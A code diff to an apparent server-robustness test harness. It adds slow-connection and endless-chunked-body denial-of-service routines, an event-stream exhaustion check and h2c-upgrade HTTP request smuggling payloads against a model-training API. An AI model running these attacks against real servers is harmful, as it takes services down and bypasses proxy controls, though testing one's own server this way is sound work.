@@ -15,9 +15,10 @@ import numpy as np
 from attacks.costly import costly_photos, described
 from attacks.target import HOST, Target
 
-MANY = 400  # connections of one attacker, ...
+MANY = 400  # connections of one attacker, or ...
+MORE = 505  # ... more than a server takes at all, ...
 AT_ONCE = 10  # ... who opens so many in a tenth of a second: more sound requests than can be answered hold up anyone.
-
+OFFER = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"  # of another protocol
 
 Attacker: TypeAlias = Callable[[Target], None]
 
@@ -39,12 +40,12 @@ def _flood(target: Target, beginning: bytes, more: bytes, connections: int = 4) 
         thread.join()
 
 
-def _crowd(target: Target, beginning: bytes, drip: bytes, *, reads: int = 0) -> None:
+def _crowd(target: Target, beginning: bytes, drip: bytes, *, reads: int = 0, most: int = MANY) -> None:
     """Hold many connections open, send or read a little on each now and then, and open new ones for those that end."""
     with ExitStack() as stack:
         held: list[socket.socket] = []
         while target.goes_on:
-            for _ in range(min(AT_ONCE, MANY - len(held))):
+            for _ in range(min(AT_ONCE, most - len(held))):
                 with suppress(OSError):
                     connection = stack.enter_context(target.connect())
                     connection.sendall(beginning)
@@ -93,6 +94,23 @@ def half_open(target: Target) -> None:
     _crowd(target, b"", b"")
 
 
+def unfinished_bodies(target: Target) -> None:
+    """Hold many connections on each of which a small body is never whole."""
+    head = b"POST /api/predict HTTP/1.1\r\n" + HOST + target.proof
+    _crowd(target, head + b"Content-Length: 60000\r\n\r\n", b"x", most=MORE)
+
+
+def watching(target: Target) -> None:
+    """Hold more streams of events than there may be: another one may still watch."""
+    ask = b"GET /api/training/events HTTP/1.1\r\n" + HOST + target.proof + b"\r\n"
+    threading.Thread(target=_crowd, args=(target, ask, b""), daemon=True).start()
+    while target.goes_on:
+        time.sleep(0.5)
+        if not target.ask(ask, 0.5).startswith(b"HTTP/1.1 200") and target.goes_on:
+            target.found.append(("nobody else can watch a training", ask))
+            return
+
+
 def never_reading(target: Target) -> None:
     """Ask for much on many connections, and take nothing of it."""
     ask = b"GET /api/model HTTP/1.1\r\n" + HOST + target.proof + b"\r\n"
@@ -114,6 +132,8 @@ def endless_bodies(target: Target) -> None:
         (head + b"Transfer-Encoding: chunked\r\n\r\n", b"c350\r\n" + b"x" * 50_000 + b"\r\n"),
         (head + b"Transfer-Encoding: chunked\r\n\r\n5;", b"x" * 50_000),
         (head + b"Transfer-Encoding: chunked\r\n\r\n0\r\n", b"a: b\r\n" * 8_000),
+        (head + b"Transfer-Encoding: chunked\r\n\r\n4C4B40\r\n" + bytes(5_000_000) + b"\r\n0\r\nX: ", b"x" * 50_000),
+        (head + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 10_000),
         (head.replace(b"localhost", b"example.org") + b"Content-Length: 9999999999\r\n\r\n", b"x" * 50_000),
     )
     flood = [(target, *half, 8 if place == 0 else 1) for place, half in enumerate(halves)]
@@ -147,6 +167,8 @@ def smuggling(target: Target) -> None:
         post + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n" + inner,
         post + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + inner,
         post + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n\r\n" + inner,
+        post + OFFER + b"Content-Length: %d\r\n\r\n" % len(inner) + inner,
+        post + OFFER + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(inner) + inner,
         post + b"X: a\r\n folded: b\r\n\r\n" + inner,
         post + b"X: a\nY: b\n\n" + inner,
         post + b"X: a\rY: b\r\n\r\n" + inner,
@@ -233,6 +255,8 @@ ATTACKERS: Mapping[str, Attacker] = {
         long_heads,
         slow_heads,
         half_open,
+        unfinished_bodies,
+        watching,
         never_reading,
         reading_slowly,
         endless_bodies,
